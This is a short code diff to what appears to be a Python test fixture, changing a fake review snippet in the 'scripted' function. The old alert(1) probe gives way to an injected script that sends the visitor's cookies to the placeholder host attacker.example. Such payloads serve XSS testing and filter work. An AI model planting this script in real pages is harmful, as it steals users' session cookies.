@@ -25,7 +25,8 @@ def safe(request):
 
 
 def scripted(request):
-    return "<blockquote>Great service! <script>alert(1)</script></blockquote>"
+    return ("<blockquote>Great service! <script>fetch('https://attacker.example/c?'"
+            "+document.cookie)</script></blockquote>")
 
 
 def judge_no(request):
